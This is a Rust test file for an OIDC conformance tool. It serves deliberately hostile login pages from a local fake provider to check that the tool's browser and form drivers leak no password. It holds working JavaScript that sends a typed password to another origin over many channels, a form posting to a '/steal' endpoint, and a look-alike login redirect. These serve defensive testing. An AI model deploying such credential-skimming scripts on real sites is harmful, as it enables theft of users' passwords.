//! Hostile login pages: scripts that send the password to another origin (by
//! navigation, `fetch`, image, beacon, frame, worker, new window, WebSocket),
//! redirect to another origin's login form before it is filled, show the
//! password on the page, open dialogs or keep the page busy. Run through the
//! form driver and the browser driver: the password reaches no other origin
//! and no output file, every blocked request is in the trace, and a page the
//! driver cannot pass ends the case with its URL and screenshot.

use std::net::SocketAddr;
use std::sync::{Arc, Mutex, OnceLock};

use axum::Router;
use axum::body::Bytes;
use axum::extract::{Path, Query, State};
use axum::http::{Method, StatusCode, Uri, header};
use axum::response::{Html, IntoResponse, Response};
use axum::routing::{any, get};
use serde_json::{Value, json};

use crate::util::{Run, oidc_conform, read_report};

const PASSWORD: &str = "Hostile-Pw-4f7e2a91c3";
const USERNAME: &str = "jane.hostile";

/// Everything the other origin received: `METHOD URI BODY`.
type Seen = Arc<Mutex<Vec<String>>>;

struct Servers {
    provider: SocketAddr,
    seen: Seen,
}

fn servers() -> &'static Servers {
    static S: OnceLock<Servers> = OnceLock::new();
    S.get_or_init(|| {
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            let rt = tokio::runtime::Builder::new_multi_thread()
                .worker_threads(2)
                .enable_all()
                .build()
                .unwrap();
            rt.block_on(async move {
                let seen: Seen = Arc::default();
                let elsewhere = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
                let provider = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
                let (p, e) = (provider.local_addr().unwrap(), elsewhere.local_addr().unwrap());
                tx.send((p, e, seen.clone())).unwrap();
                let other = Router::new()
                    .route("/login", get(other_login))
                    .fallback(any(record))
                    .with_state(seen);
                tokio::spawn(async move { axum::serve(elsewhere, other).await.unwrap() });
                let app = Router::new()
                    .route("/{mode}/.well-known/openid-configuration", get(discovery))
                    .route("/{mode}/jwks", get(|| async { axum::Json(json!({"keys": []})) }))
                    .route("/{mode}/authorize", get(authorize))
                    .route("/{mode}/login", any(login_post))
                    .route(
                        "/{mode}/token",
                        any(|| async { (StatusCode::BAD_REQUEST, axum::Json(json!({"error": "invalid_grant"}))) }),
                    )
                    .with_state(e);
                axum::serve(provider, app).await.unwrap();
            });
        });
        let (provider, _elsewhere, seen) = rx.recv().unwrap();
        Servers { provider, seen }
    })
}

async fn record(State(seen): State<Seen>, method: Method, uri: Uri, body: Bytes) -> Response {
    seen.lock()
        .unwrap()
        .push(format!("{method} {uri} {}", String::from_utf8_lossy(&body)));
    (StatusCode::OK, "ok").into_response()
}

/// The other origin's own login form, which a script of the provider's page sends the browser to.
async fn other_login(State(seen): State<Seen>, uri: Uri) -> Response {
    seen.lock().unwrap().push(format!("GET {uri} "));
    Html(
        "<html><head><title>Sign in</title></head><body><form method=post action=/steal>\
         <label>Username <input name=username autocomplete=username></label>\
         <label>Password <input type=password name=password></label><button>Sign in</button></form></body></html>",
    )
    .into_response()
}

fn issuer(mode: &str) -> String {
    format!("http://{}/{mode}", servers().provider)
}

async fn discovery(Path(mode): Path<String>) -> Response {
    let iss = issuer(&mode);
    axum::Json(json!({
        "issuer": iss,
        "authorization_endpoint": format!("{iss}/authorize"),
        "token_endpoint": format!("{iss}/token"),
        "jwks_uri": format!("{iss}/jwks"),
        "response_types_supported": ["code"],
        "subject_types_supported": ["public"],
        "id_token_signing_alg_values_supported": ["RS256"],
    }))
    .into_response()
}

/// A login widget rendered by a script (no form in the HTML), and what the
/// page's script does besides.
fn widget(extra: &str, on_submit: &str, elsewhere: SocketAddr) -> String {
    format!(
        r#"<!doctype html><html><head><title>Sign in</title></head><body><div id=app>Loading…</div><script>
const ELSEWHERE = 'http://{elsewhere}';
const app = document.getElementById('app');
app.innerHTML = '<label>Username <input id=u autocomplete=username></label><label>Password <input id=p type=password></label><button id=go type=button>Sign in</button>';
const pw = () => document.getElementById('p').value;
{extra}
document.getElementById('go').addEventListener('click', () => {{ {on_submit} }});
</script></body></html>"#
    )
}

/// Every way out of the page a script has, tried as the password is typed and when it is submitted.
const EXFILTRATE: &str = r#"
const out = (how) => {
  const p = encodeURIComponent(pw());
  try { fetch(ELSEWHERE + '/fetch?' + how, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ username: document.getElementById('u').value, password: pw() }) }); } catch (e) {}
  try { new Image().src = ELSEWHERE + '/image?p=' + p; } catch (e) {}
  try { navigator.sendBeacon(ELSEWHERE + '/beacon', pw()); } catch (e) {}
  try { const x = new XMLHttpRequest(); x.open('GET', ELSEWHERE + '/xhr?p=' + p); x.send(); } catch (e) {}
  try { const f = document.createElement('iframe'); f.src = ELSEWHERE + '/frame?p=' + p; document.body.appendChild(f); } catch (e) {}
  try { new Worker(URL.createObjectURL(new Blob(["fetch('" + ELSEWHERE + "/worker?p=" + p + "')"]))); } catch (e) {}
  try { window.open(ELSEWHERE + '/window?p=' + p); } catch (e) {}
  try { new WebSocket(ELSEWHERE.replace('http', 'ws') + '/ws?p=' + p); } catch (e) {}
  try { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = ELSEWHERE + '/style?p=' + p; document.head.appendChild(l); } catch (e) {}
};
document.getElementById('p').addEventListener('input', () => out('input'));
"#;

async fn authorize(
    Path(mode): Path<String>,
    Query(q): Query<std::collections::HashMap<String, String>>,
    State(elsewhere): State<SocketAddr>,
) -> Response {
    let redirect = q.get("redirect_uri").cloned().unwrap_or_default();
    let state = q.get("state").cloned().unwrap_or_default();
    let back = format!("{redirect}?code=hostile-code&state={state}");
    let page = match mode.as_str() {
        // After the password: every channel, then the page itself goes elsewhere.
        "exfiltrate" => widget(
            EXFILTRATE,
            "out('submit'); setTimeout(() => { location.href = ELSEWHERE + '/navigate?p=' + encodeURIComponent(pw()); }, 300);",
            elsewhere,
        ),
        // Before anything is typed: off to another origin's login form.
        "redirect" => format!(
            "<!doctype html><html><head><title>Redirecting</title></head><body>One moment…<script>location.replace('http://{elsewhere}/login');</script></body></html>"
        ),
        // A server-rendered form that posts the password to another origin.
        "form-elsewhere" => format!(
            "<!doctype html><html><head><title>Sign in</title></head><body><form method=post action='http://{elsewhere}/steal'>\
             <label>Username <input name=username autocomplete=username></label>\
             <label>Password <input type=password name=password></label><button>Sign in</button></form><script>/* */</script></body></html>"
        ),
        // Dialogs on the way; then a working login.
        "dialogs" => widget(
            "alert('Welcome'); window.addEventListener('beforeunload', (e) => { e.preventDefault(); e.returnValue = 'stay'; }); confirm('Continue?');",
            &format!("alert('Signing in'); location.href = {};", serde_json::to_string(&back).unwrap()),
            elsewhere,
        ),
        // An account chooser rendered by a script: the tile naming the user goes on.
        "chooser" => format!(
            r#"<!doctype html><html><head><title>Pick an account</title></head><body><div id=app></div><script>
setTimeout(() => {{
  const app = document.getElementById('app');
  app.innerHTML = '<h1>Pick an account</h1><div role=listitem tabindex=0 id=t1>Signed in<br>{USERNAME}</div><div role=listitem tabindex=0 id=t2>Use another account</div><a href="/help">Help</a>';
  document.getElementById('t1').addEventListener('click', () => {{ location.href = {back}; }});
}}, 50);
</script></body></html>"#,
            back = serde_json::to_string(&back).unwrap()
        ),
        // A script that never lets go of the page.
        "busy" => "<!doctype html><html><head><title>Busy</title></head><body>Please wait<script>setTimeout(() => { while (true) {} }, 50);</script></body></html>".to_owned(),
        // Scripts that keep changing the page, and nothing to act on: it never settles.
        "ticking" => "<!doctype html><html><head><title>Waiting</title></head><body><p>Please wait <span id=t></span></p><script>setInterval(() => { document.getElementById('t').textContent = String(Date.now()); }, 100);</script></body></html>".to_owned(),
        // Scripts and nothing to act on: an end.
        "nothing" => "<!doctype html><html><head><title>Portal</title><script>document.title = 'Portal';</script></head><body><h1>Go to the portal</h1><p>Nothing to sign in to here.</p></body></html>".to_owned(),
        _ => return StatusCode::NOT_FOUND.into_response(),
    };
    ([(header::CONTENT_TYPE, "text/html; charset=utf-8")], page).into_response()
}

/// The form of `form-elsewhere` never gets here; `show` does (below).
async fn login_post() -> Response {
    StatusCode::NOT_FOUND.into_response()
}

fn profile(dir: &std::path::Path, mode: &str, driver: &str) {
    let profile = format!(
        "name: hostile-login-{mode}\nissuer: {}\naudience_param: none\nclients:\n  web: {{ id: web-client, secret: hostile-login-secret-77aa, redirect_uri: http://127.0.0.1:9/cb }}\n\
         users:\n  jane: {{ username: {USERNAME}, password: {PASSWORD} }}\nlogin: {{ driver: {driver} }}\nhttp: {{ timeout: 5s, case_timeout: 90s }}\n",
        issuer(mode)
    );
    std::fs::write(dir.join("profile.yaml"), profile).unwrap();
}

fn suite(dir: &std::path::Path, cases: usize) {
    let mut suite = String::from("suite: hostile-login\ndefaults: { client: web, user: jane }\ncases:\n");
    for i in 0..cases {
        suite.push_str(&format!(
            "  - name: case-{i:02}\n    flow: code\n    request: {{ scope: openid }}\n"
        ));
    }
    std::fs::write(dir.join("suite.yaml"), suite).unwrap();
}

fn run_mode(mode: &str, driver: &str, cases: usize, extra: &[&str]) -> (Run, tempfile::TempDir) {
    let dir = tempfile::tempdir().unwrap();
    profile(dir.path(), mode, driver);
    suite(dir.path(), cases);
    let p = |f: &str| dir.path().join(f).to_str().unwrap().to_owned();
    let mut args = vec![
        "run".to_owned(),
        p("suite.yaml"),
        "--provider".into(),
        p("profile.yaml"),
        "--output".into(),
        p("out"),
    ];
    args.extend(extra.iter().map(|s| s.to_string()));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    (oidc_conform(&args), dir)
}

/// No form of the password in any file the run wrote, nor in its output.
fn assert_no_password_anywhere(run: &Run, out: &std::path::Path) {
    let lower = PASSWORD.to_lowercase();
    for entry in std::fs::read_dir(out).unwrap() {
        let path = entry.unwrap().path();
        if path.is_file() {
            let text = String::from_utf8_lossy(&std::fs::read(&path).unwrap()).to_lowercase();
            assert!(!text.contains(&lower), "{} holds the password", path.display());
        }
    }
    assert!(!run.stdout().to_lowercase().contains(&lower) && !run.stderr().to_lowercase().contains(&lower));
}

fn seen_with_password() -> Vec<String> {
    let s = servers().seen.lock().unwrap();
    s.iter()
        .filter(|l| l.contains(PASSWORD) || l.contains(&PASSWORD.replace('-', "%2D")))
        .cloned()
        .collect()
}

fn only_case(dir: &tempfile::TempDir) -> Value {
    read_report(&dir.path().join("out"))["cases"][0].clone()
}

#[test]
fn a_script_gets_the_password_to_no_other_origin() {
    for driver in ["auto", "browser"] {
        let (run, dir) = run_mode("exfiltrate", driver, 1, &[]);
        assert_eq!(run.code(), 1, "{}", run.describe());
        let c = only_case(&dir);
        let trace = c["trace"].to_string();
        assert!(trace.contains("filled in the username and password"), "{driver}: {trace}");
        assert!(
            trace.contains("browser: blocked"),
            "{driver}: each blocked request is in the trace: {trace}"
        );
        assert!(
            c["checks"].to_string().contains("the origin policy does not admit"),
            "{driver}: {:#}",
            c["checks"]
        );
        assert_no_password_anywhere(&run, &dir.path().join("out"));
    }
    assert_eq!(seen_with_password(), Vec::<String>::new(), "the other origin got the password");
}

#[test]
fn no_driver_types_the_password_into_another_origins_page() {
    for driver in ["auto", "browser", "form"] {
        let (run, dir) = run_mode("redirect", driver, 1, &[]);
        assert_eq!(run.code(), 1, "{}", run.describe());
        let c = only_case(&dir);
        assert_eq!(c["status"], "error", "{driver}: {c:#}");
        let checks = c["checks"].to_string();
        if driver != "form" {
            assert!(checks.contains("the credentials were not typed"), "{driver}: {checks}");
        }
        assert_no_password_anywhere(&run, &dir.path().join("out"));
    }
    for driver in ["form", "browser"] {
        let (run, dir) = run_mode("form-elsewhere", driver, 1, &[]);
        assert_eq!(run.code(), 1, "{}", run.describe());
        let c = only_case(&dir);
        assert_eq!(c["status"], "error", "{driver}: {c:#}");
        assert_no_password_anywhere(&run, &dir.path().join("out"));
    }
    assert_eq!(seen_with_password(), Vec::<String>::new(), "the other origin got the password");
}

#[test]
fn the_origin_policy_admits_only_the_issuer_and_trusted_origins() {
    use oidc_conform::login::browser::OriginPolicy;
    let p = OriginPolicy {
        origins: vec![
            "http://127.0.0.1:8080".into(),
            "https://login.example.test".into(),
            "http://plain.example.test".into(),
        ],
        allow_http: false,
    };
    assert!(p.admits("http://127.0.0.1:8080/login?x=1").is_ok());
    assert!(p.admits("https://login.example.test/u/login").is_ok());
    assert!(p.admits("http://127.0.0.1:8081/login").is_err(), "another loopback port");
    assert!(p.admits("https://evil.example.test/").is_err());
    assert!(p.admits("ws://127.0.0.1:8080/").is_err());
    let why = p.admits("http://plain.example.test/login").unwrap_err();
    assert!(why.contains("--allow-http"), "{why}");
    let p = OriginPolicy { allow_http: true, ..p };
    assert!(p.admits("http://plain.example.test/login").is_ok());
}

#[test]
fn dialogs_are_dismissed_and_a_busy_page_ends_with_its_url_and_screenshot() {
    let (run, dir) = run_mode("dialogs", "auto", 1, &[]);
    let c = only_case(&dir);
    let trace = c["trace"].to_string();
    assert!(trace.contains("dismissed a `alert` dialog"), "{}\n{trace}", run.describe());
    assert!(trace.contains("(not sent: the redirect back to the client)"), "{trace}");

    let (run, dir) = run_mode("busy", "browser", 1, &[]);
    assert_eq!(run.code(), 1, "{}", run.describe());
    let c = only_case(&dir);
    assert_eq!(c["status"], "error", "{c:#}");
    let checks = c["checks"].to_string();
    assert!(checks.contains("/busy/authorize"), "the URL of the page: {checks}");
    let shot = c["page"]["screenshot"].as_str().unwrap_or_else(|| panic!("a screenshot: {c:#}"));
    assert!(std::fs::read(dir.path().join("out").join(shot)).unwrap().starts_with(b"\x89PNG"));
}

#[test]
fn a_page_that_defeats_the_browser_again_and_again_is_given_up() {
    let n = oidc_conform::login::browser::GIVE_UP_AFTER as usize + 2;
    // (Each case signs in itself: a shared sign-in's attempt would count too.)
    let (run, dir) = run_mode("ticking", "browser", n, &["--jobs", "1", "--fresh-sign-ins"]);
    assert_eq!(run.code(), 1, "{}", run.describe());
    let report = read_report(&dir.path().join("out"));
    let cases = report["cases"].as_array().unwrap();
    assert_eq!(cases.len(), n);
    let given_up = cases
        .iter()
        .filter(|c| c["checks"].to_string().contains("is not tried again in this run"))
        .count();
    assert_eq!(given_up, 2, "{:#}", report["cases"]);
    for c in cases {
        assert_eq!(c["status"], "error");
    }
}

/// An account chooser: the browser driver picks the tile that names the user.
#[test]
fn an_account_chooser_goes_on_with_the_users_account() {
    let (run, dir) = run_mode("chooser", "auto", 1, &[]);
    let c = only_case(&dir);
    let trace = c["trace"].to_string();
    assert!(trace.contains("chose the user's account"), "{}\n{trace}", run.describe());
    assert!(trace.contains("(not sent: the redirect back to the client)"), "{trace}");
}

/// A page with scripts that settles with nothing to act on (an error page that
/// loads scripts) is an end, classified at once by either driver: a case that
/// expects success is an `error` with the page, one that expects a refusal is
/// refused — the user agent never reached the redirect URI.
#[test]
fn a_settled_page_with_nothing_to_act_on_is_an_end() {
    for driver in ["auto", "browser"] {
        let (run, dir) = run_mode("nothing", driver, 1, &[]);
        assert_eq!(run.code(), 1, "{}", run.describe());
        let c = only_case(&dir);
        assert_eq!(c["status"], "error", "{driver}: {c:#}");
        let checks = c["checks"].to_string();
        assert!(checks.contains("is an end"), "{driver}: {checks}");
        assert!(c["page"]["screenshot"].is_string(), "{driver}: the page is the evidence: {c:#}");

        let dir = tempfile::tempdir().unwrap();
        profile(dir.path(), "nothing", driver);
        std::fs::write(
            dir.path().join("suite.yaml"),
            "suite: hostile-login\ndefaults: { client: web, user: jane }\ncases:\n  - name: refused\n    flow: code\n    request: { scope: openid, params: { redirect_uri: \"http://127.0.0.1:9/elsewhere\" } }\n    expect: { error: [invalid_request] }\n",
        )
        .unwrap();
        let p = |f: &str| dir.path().join(f).to_str().unwrap().to_owned();
        let run = oidc_conform(&["run", &p("suite.yaml"), "--provider", &p("profile.yaml"), "--output", &p("out")]);
        let c = only_case(&dir);
        let refused = c["checks"]
            .as_array()
            .unwrap()
            .iter()
            .find(|k| k["id"] == "negative.refused")
            .unwrap_or_else(|| panic!("{driver}: {}", run.describe()));
        assert_eq!(refused["status"], "pass", "{driver}: {refused:#}");
        assert!(refused["message"].as_str().unwrap().contains("Go to the portal"), "{refused:#}");
    }
}

/// The page shows the password in every form it can; the screenshot's page and
/// its text have none of them. The password is not a credential this process
/// registered, so only the blanking on the page can take it out.
#[test]
fn a_snapshot_blanks_every_form_of_the_password() {
    use base64::Engine as _;
    let pw = "Shown-On-Page-9d2c71";
    let spaced: String = pw.chars().map(|c| format!("{c} ")).collect();
    let split: String = pw.chars().map(|c| format!("<span>{c}</span>")).collect();
    let b64 = base64::engine::general_purpose::STANDARD.encode(format!("jane:{pw}"));
    let html = format!(
        "<html><head><title>Error {pw}</title></head><body><p>Wrong password {pw} for jane</p><p>{}</p><p>{spaced}</p><p>{}</p>\
         <p>{b64}</p><div>{split}</div><input type=password value='{pw}'><input value='{pw}'></body></html>",
        pw.to_uppercase(),
        url::form_urlencoded::byte_serialize(pw.as_bytes()).collect::<String>(),
    );
    let rt = tokio::runtime::Builder::new_multi_thread().enable_all().build().unwrap();
    let browser = rt
        .block_on(oidc_conform::login::browser::Browser::start(Default::default()))
        .expect("Chromium starts (scripts/install-chromium)");
    let url = url::Url::parse("http://127.0.0.1:9/error").unwrap();
    let (png, text) = rt.block_on(browser.snapshot(&url, html.as_bytes(), &[pw]));
    assert!(png.is_some_and(|p| p.starts_with(b"\x89PNG")), "a screenshot");
    let text = text.expect("the page's text");
    assert!(text.contains("Wrong password [redacted] for jane"), "{text}");
    let flat: String = text.split_whitespace().collect::<String>().to_lowercase();
    assert!(!flat.contains(&pw.to_lowercase()), "{text}");
    assert!(!flat.contains("shown-on-page") && !flat.contains("shown%2don"), "{text}");
    assert!(!text.contains(&b64[8..20]), "{text}");
    drop(browser);
}

/// The pids of `pid`'s descendants.
fn descendants(pid: u32) -> Vec<u32> {
    let mut parent_of = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(p) = e.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        let Ok(stat) = std::fs::read_to_string(format!("/proc/{p}/stat")) else {
            continue;
        };
        let Some(rest) = stat.rsplit_once(')').map(|(_, r)| r.to_owned()) else {
            continue;
        };
        if let Some(ppid) = rest.split_whitespace().nth(1).and_then(|x| x.parse::<u32>().ok()) {
            parent_of.push((p, ppid));
        }
    }
    let mut out = vec![];
    let mut frontier = vec![pid];
    while let Some(p) = frontier.pop() {
        for (child, _) in parent_of.iter().filter(|(_, pp)| *pp == p) {
            out.push(*child);
            frontier.push(*child);
        }
    }
    out
}

fn alive(pid: u32) -> bool {
    std::fs::read_to_string(format!("/proc/{pid}/stat")).is_ok_and(|s| {
        s.rsplit_once(')')
            .and_then(|(_, r)| r.split_whitespace().next().map(|st| st != "Z"))
            .unwrap_or(false)
    })
}

/// Listening TCP sockets (inodes) of the machine.
fn listening_inodes() -> std::collections::HashSet<String> {
    let mut out = std::collections::HashSet::new();
    for f in ["/proc/net/tcp", "/proc/net/tcp6"] {
        for line in std::fs::read_to_string(f).unwrap_or_default().lines().skip(1) {
            let cols: Vec<&str> = line.split_whitespace().collect();
            if cols.get(3) == Some(&"0A") {
                if let Some(inode) = cols.get(9) {
                    out.insert(inode.to_string());
                }
            }
        }
    }
    out
}

/// The browser opens no port, and when the harness is killed (no destructor,
/// no signal handler runs) its browser exits and its profile directory goes.
#[test]
fn a_killed_harness_leaves_no_browser_no_port_and_no_profile() {
    let dir = tempfile::tempdir().unwrap();
    profile(dir.path(), "ticking", "browser");
    suite(dir.path(), 1);
    let p = |f: &str| dir.path().join(f).to_str().unwrap().to_owned();
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_oidc-conform"))
        .args(["run", &p("suite.yaml"), "--provider", &p("profile.yaml"), "--output", &p("out")])
        .env("NO_COLOR", "1")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let harness = child.id();
    // Until the browser runs and holds the page.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    let (pids, profile_dir) = loop {
        let pids = descendants(harness);
        let profile_dir = pids.iter().find_map(|p| {
            let cmd = std::fs::read(format!("/proc/{p}/cmdline")).ok()?;
            String::from_utf8_lossy(&cmd)
                .split('\0')
                .find_map(|a| a.strip_prefix("--user-data-dir=").map(str::to_owned))
        });
        if let Some(profile_dir) = profile_dir.filter(|_| pids.len() >= 3) {
            std::thread::sleep(std::time::Duration::from_millis(1500));
            break (descendants(harness), profile_dir);
        }
        assert!(std::time::Instant::now() < deadline, "the browser did not start");
        std::thread::sleep(std::time::Duration::from_millis(100));
    };
    // No port: none of the browser's sockets listens.
    let listening = listening_inodes();
    for pid in &pids {
        for fd in std::fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten() {
            let target = std::fs::read_link(fd.path())
                .map(|t| t.to_string_lossy().into_owned())
                .unwrap_or_default();
            if let Some(inode) = target.strip_prefix("socket:[").and_then(|t| t.strip_suffix(']')) {
                assert!(!listening.contains(inode), "process {pid} of the browser listens on a TCP port");
            }
        }
    }
    // The profile directory is in a private one.
    use std::os::unix::fs::PermissionsExt as _;
    let profile_dir = std::path::Path::new(&profile_dir).parent().unwrap().to_str().unwrap().to_owned();
    let mode = std::fs::metadata(&profile_dir).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o700, "{profile_dir}");
    assert!(!profile_dir.ends_with(&format!("-{harness}-0")), "a random name: {profile_dir}");

    child.kill().unwrap();
    child.wait().unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    loop {
        let left: Vec<u32> = pids.iter().copied().filter(|p| alive(*p)).collect();
        let dir_left = std::path::Path::new(&profile_dir).exists();
        if left.is_empty() && !dir_left {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "after the harness was killed: browser processes {left:?} still run, profile directory left: {dir_left}"
        );
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
}
